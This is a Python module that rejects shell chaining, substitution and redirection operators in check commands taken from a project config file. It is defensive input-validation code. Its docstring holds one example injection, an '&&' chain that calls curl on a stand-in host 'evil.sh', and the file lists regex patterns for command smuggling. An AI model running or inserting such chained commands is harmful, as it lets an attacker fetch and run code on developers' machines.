"""Fortress Command Validator — shell operator denylist.

Check commands come from a project-editable config file and are executed
through a shell. Any chaining, substitution or redirection operator in them
is an injection vector, so commands are rejected before they reach a
subprocess:

    npx eslint .                     accepted
    npx eslint . && curl evil.sh     rejected (AND chain)

Plain commands with flags are fine. The validator is a pure predicate.
"""

from __future__ import annotations

import logging
import re
from dataclasses import dataclass
from typing import Optional

logger = logging.getLogger("fortress.validator")

# ─── Denylist ─────────────────────────────────────────────────────
# (pattern, human-readable operator name)
_DANGEROUS_PATTERNS: list[tuple[re.Pattern, str]] = [
    (re.compile(r"[\r\n]"), "newline command separator"),
    (re.compile(r";"), "command separator ';'"),
    (re.compile(r"&&"), "AND chain '&&'"),
    (re.compile(r"(?<!&)&(?!&)"), "background operator '&'"),
    (re.compile(r"\|\|"), "OR chain '||'"),
    (re.compile(r"(?<!\|)\|(?!\|)"), "pipe '|'"),
    (re.compile(r"\$\("), "command substitution '$('"),
    (re.compile(r"`"), "backtick substitution '`'"),
    (re.compile(r">"), "output redirect '>'"),
    (re.compile(r"<"), "input redirect '<'"),
    (re.compile(r"\$\{"), "variable expansion '${'"),
    (re.compile(r"\beval\b"), "'eval'"),
    (re.compile(r"\bsource\b"), "'source'"),
    (re.compile(r"\bexec\b"), "'exec'"),
]

# Tools Fortress is designed to run. Informational only.
SAFE_TOOLS = frozenset(
    {"npx", "npm", "yarn", "pnpm", "bun", "node", "tsc", "eslint", "biome", "vitest", "jest", "mocha"}
)


@dataclass(frozen=True)
class CommandValidation:
    """Outcome of validating one command string."""

    valid: bool
    reason: Optional[str] = None
    known_safe: bool = False


def validate_command(command: object) -> CommandValidation:
    """Validate a check command. Never raises."""
    if not isinstance(command, str):
        return CommandValidation(valid=False, reason="Command is empty or not a string")

    trimmed = command.strip()
    if not trimmed:
        return CommandValidation(valid=False, reason="Command is empty")

    for pattern, operator in _DANGEROUS_PATTERNS:
        if pattern.search(trimmed):
            return CommandValidation(
                valid=False,
                reason=f"Command contains a disallowed shell operator: {operator}",
            )

    known_safe = trimmed.split()[0] in SAFE_TOOLS
    if not known_safe:
        logger.debug("Command %r does not start with a known tool prefix", trimmed)
    return CommandValidation(valid=True, known_safe=known_safe)
